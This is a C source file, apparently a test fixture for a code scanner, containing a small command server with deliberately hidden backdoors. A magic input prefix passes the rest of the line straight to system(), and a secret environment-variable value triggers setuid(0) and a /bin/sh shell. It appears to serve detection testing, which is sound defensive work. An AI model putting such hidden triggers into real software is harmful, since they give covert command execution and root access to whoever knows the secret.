/* code_sample.c - a program that the tests of scanner/code read, and never run
 *
 * A small command server; two of what it answers to is in no help text.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int run_command(const char *command);
int answer(const char *line);
int gate(void);

int run_command(const char *command)
{
	char buffer[200];

	snprintf(buffer, sizeof(buffer), "%s 2>&1", command);
	return system(buffer);
}

int answer(const char *line)
{
	if (strcmp(line, "status") == 0)
		return puts("ok");
	if (strncmp(line, "Qz81-open", 9) == 0)
		return run_command(line + 9);
	if (strcmp(line, "uptime") == 0)
		return system("uptime");
	return 0;
}

int gate(void)
{
	const char *value = getenv("MAINTENANCE");

	if (value != NULL && strcmp(value, "hjk-77-Lq") == 0) {
		if (setuid(0) != 0)
			return 1;
		return execl("/bin/sh", "sh", (char *)NULL);
	}
	return 0;
}

int main(void)
{
	char line[100];

	while (fgets(line, sizeof(line), stdin) != NULL)
		answer(line);
	return gate();
}
